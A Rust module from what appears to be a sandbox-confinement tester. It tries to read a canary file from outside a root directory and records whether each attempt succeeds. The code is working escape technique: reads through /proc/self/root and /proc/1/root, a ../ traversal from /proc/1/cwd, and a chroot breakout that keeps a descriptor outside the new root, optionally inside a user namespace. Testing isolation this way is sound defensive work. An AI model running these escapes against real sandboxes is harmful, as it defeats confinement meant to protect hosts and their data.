//! Ways out of a root directory.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use super::files::{holds, look, scratch};
use super::{Got, Try};

/// Steps up that pass every root there is.
const STEPS: usize = 64;
/// Bytes of the canary that are read.
const READ: usize = 512;

/// Tries to read `path` from outside the root, each way in a process of its own.
pub(super) fn escape(path: &Path, secret: &str) -> Vec<Try> {
    let mut tries = vec![
        look("through /proc/self/root", &below("/proc/self/root", path), secret),
        look("through the first process's root", &below("/proc/1/root", path), secret),
        look(
            "through its working directory",
            &below(&format!("/proc/1/cwd/{}", "../".repeat(40)), path),
            secret,
        ),
    ];
    for (what, namespace) in [("chroot", false), ("chroot in a user namespace", true)] {
        tries.push(chroot_escape(what, namespace, path, secret));
    }
    tries
}

fn below(root: &str, path: &Path) -> std::path::PathBuf {
    Path::new(root).join(path.strip_prefix("/").unwrap_or(path))
}

/// Goes into a new root while a descriptor stays outside, and goes up from there.
fn chroot_escape(what: &str, namespace: bool, path: &Path, secret: &str) -> Try {
    let place = scratch("root");
    if let Err(error) = std::fs::create_dir_all(&place) {
        return Try::absent(what, error.to_string());
    }
    let relative = path.strip_prefix("/").unwrap_or(path).as_os_str().as_bytes();
    let (Ok(new_root), Ok(relative)) =
        (CString::new(place.as_os_str().as_bytes()), CString::new(relative))
    else {
        return Try::absent(what, "the path cannot be written down");
    };
    let got = super::processes::in_child(|| {
        // SAFETY: system calls on descriptors and strings that live through them, in a child that
        // ends right after.
        unsafe {
            if namespace && libc::unshare(libc::CLONE_NEWUSER) != 0 {
                return Vec::new();
            }
            let outside = libc::open(c".".as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
            if libc::chroot(new_root.as_ptr()) != 0 || libc::fchdir(outside) != 0 {
                return Vec::new();
            }
            for _ in 0..STEPS {
                libc::chdir(c"..".as_ptr());
            }
            if libc::chroot(c".".as_ptr()) != 0 {
                return Vec::new();
            }
            let file = libc::open(relative.as_ptr(), libc::O_RDONLY);
            let mut text = vec![0u8; READ];
            let count = libc::read(file, text.as_mut_ptr().cast(), READ);
            text.truncate(usize::try_from(count).unwrap_or(0));
            text
        }
    });
    let _ = std::fs::remove_dir(place);
    let got = match got {
        Ok(text) if holds(&text, secret) => Got::Reached("read".to_owned()),
        Ok(_) => Got::Refused("not reached".to_owned()),
        Err(error) => Got::Absent(error.to_string()),
    };
    Try { what: what.to_owned(), got }
}
